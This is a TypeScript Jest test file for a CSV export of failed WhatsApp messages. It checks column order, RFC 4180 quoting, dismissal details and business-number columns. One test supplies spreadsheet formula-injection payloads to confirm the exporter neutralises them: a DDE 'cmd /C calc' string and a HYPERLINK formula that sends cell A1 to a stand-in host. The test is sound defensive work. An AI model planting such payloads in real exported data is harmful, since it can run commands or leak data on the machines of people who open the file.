import { FailedMessage } from '@msgops/plugin-failed-messages-common';
import { CSV_HEADER, toCsvLine } from './csv';

const message: FailedMessage = {
  id: 'msg-1',
  channel: 'whatsapp',
  externalId: 'wamid.1',
  recipient: '+16505551234',
  campaign: 'order-updates',
  templateName: 'order_update',
  error: {
    code: '130429',
    title: 'Rate limit hit',
    message: '(#130429) Rate limit hit',
    details: null,
  },
  category: 'retryable',
  retryStatus: 'never-retried',
  automaticAttempts: 0,
  manualAttempts: 2,
  nextAutomaticRetryAt: null,
  failedAt: '2026-11-20T10:00:00.000Z',
  lastAttemptAt: null,
  resolvedAt: null,
  state: 'open',
  dismissal: null,
  resolution: null,
  businessNumber: null,
};

const LINE =
  'msg-1,whatsapp,wamid.1,+16505551234,order-updates,order_update,130429,Rate limit hit,(#130429) Rate limit hit,,retryable,never-retried,0,2,,2026-11-20T10:00:00.000Z,,,open,,,,,\r\n';

/** The line of `message` with `campaign` written as `cell`, every other cell as it was. */
const withCampaignCell = (cell: string) =>
  LINE.replace(',order-updates,', `,${cell},`);

describe('CSV export', () => {
  it('writes the header and one line per message in column order', () => {
    expect(CSV_HEADER).toBe(
      'id,channel,externalId,recipient,campaign,templateName,errorCode,errorTitle,errorMessage,errorDetails,category,retryStatus,automaticAttempts,manualAttempts,nextAutomaticRetryAt,failedAt,lastAttemptAt,resolvedAt,state,dismissedAt,dismissedBy,dismissReason,phoneNumberId,businessNumber\r\n',
    );
    expect(toCsvLine(message)).toBe(LINE);
  });

  it.each([
    [`+1+cmd|' /C calc'!A0`, `"'+1+cmd|' /C calc'!A0"`],
    ['-2+HYPERLINK("x")', `"'-2+HYPERLINK(""x"")"`],
    ['=1+1', `"'=1+1"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    [
      '=HYPERLINK("http://x.example/?"&A1,"open"),more',
      `"'=HYPERLINK(""http://x.example/?""&A1,""open""),more"`,
    ],
    ['+44 7700 900123', `"'+44 7700 900123"`],
    ['-', `"'-"`],
  ])('makes %j text a spreadsheet will not run', (campaign, cell) => {
    expect(toCsvLine({ ...message, campaign })).toBe(withCampaignCell(cell));
  });

  it.each(['+16505551234', '16505551234', '+1', '0'])(
    'leaves the phone number %j as it is',
    recipient => {
      expect(toCsvLine({ ...message, recipient })).toBe(
        LINE.replace('+16505551234', recipient),
      );
    },
  );

  it.each([
    ['order, "vip"', '"order, ""vip"""'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['a=b+c-d@e', 'a=b+c-d@e'],
  ])('writes the ordinary text %j as RFC 4180 does', (campaign, cell) => {
    expect(toCsvLine({ ...message, campaign })).toBe(withCampaignCell(cell));
  });

  it('says who dismissed a message, when and why', () => {
    expect(
      toCsvLine({
        ...message,
        state: 'dismissed',
        dismissal: {
          by: 'user:default/alex-agent',
          at: '2026-11-21T09:00:00.000Z',
          reason: 'Reached by phone, order confirmed',
        },
      }),
    ).toContain(
      ',dismissed,2026-11-21T09:00:00.000Z,user:default/alex-agent,"Reached by phone, order confirmed",',
    );
  });

  it('ends each line with the number that sent it and its label', () => {
    expect(
      toCsvLine({
        ...message,
        businessNumber: {
          phoneNumberId: '106540352242922',
          displayPhoneNumber: '+49 30 1111',
          label: 'Support DE',
        },
      }).endsWith(',106540352242922,Support DE\r\n'),
    ).toBe(true);
  });
});
